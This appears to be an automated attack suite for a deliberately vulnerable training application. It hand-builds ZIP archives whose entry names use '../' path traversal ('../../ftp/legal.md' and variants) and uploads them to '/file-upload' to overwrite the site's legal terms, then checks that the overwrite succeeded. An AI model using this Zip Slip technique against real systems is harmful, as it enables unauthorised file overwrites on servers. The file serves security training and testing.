import type { Attack, Tools } from '#lab'

/** A ZIP archive of texts that are not compressed, with names as they are. */
function zip(files: Record<string, string>): Uint8Array<ArrayBuffer> {
  const encoder = new TextEncoder()
  const parts: number[] = []
  const directory: number[] = []
  const short = (value: number) => [value & 255, (value >> 8) & 255]
  const long = (value: number) => [...short(value), ...short(value >>> 16)]
  for (const [name, text] of Object.entries(files)) {
    const [title, content] = [[...encoder.encode(name)], [...encoder.encode(text)]]
    const facts = [
      ...long(0),
      ...long(0),
      ...long(content.length),
      ...long(content.length),
      ...short(title.length),
      0,
      0,
    ]
    const at = parts.length
    parts.push(...long(0x04034b50), 20, 0, 0, 0, 0, 0, ...facts, ...title, ...content)
    directory.push(
      ...long(0x02014b50),
      20,
      0,
      20,
      0,
      0,
      0,
      0,
      0,
      ...facts,
      ...Array(10).fill(0),
      ...long(at),
      ...title,
    )
  }
  const count = short(Object.keys(files).length)
  const end = [
    ...long(0x06054b50),
    0,
    0,
    0,
    0,
    ...count,
    ...count,
    ...long(directory.length),
    ...long(parts.length),
    0,
    0,
  ]
  return new Uint8Array([...parts, ...directory, ...end])
}

/** Complains with an archive. */
async function complain({ http, expect }: Tools, files: Record<string, string>): Promise<void> {
  const form = new FormData()
  form.append('file', new File([zip(files)], 'complaint.zip', { type: 'application/zip' }))
  const answer = await http.post('/file-upload', form)
  expect(answer.status === 204, `the complaint was answered with ${answer.status}`)
}

const MINE = '# The law\n\nWhoever reads this owes me a juice.\n'

async function replaceTerms(tools: Tools, ...names: string[]): Promise<void> {
  await complain(tools, Object.fromEntries(names.map((name) => [name, MINE])))
  const terms = await tools.http.get('/ftp/legal.md')
  tools.expect(terms.text === MINE, 'the terms are still the old ones')
}

export const attacks: Attack[] = [
  {
    challenge: 'fileWriteChallenge',
    name: 'an archive with a file that climbs two floors',
    run: (tools) => replaceTerms(tools, '../../ftp/legal.md'),
  },
  {
    challenge: 'fileWriteChallenge',
    name: 'one that goes down a floor before it climbs',
    run: (tools) => replaceTerms(tools, 'scans/../../../ftp/legal.md'),
  },
  {
    challenge: 'fileWriteChallenge',
    name: 'two files, one of which climbs too far',
    run: (tools) => replaceTerms(tools, '../../ftp/legal.md', '../../../ftp/legal.md'),
  },
]
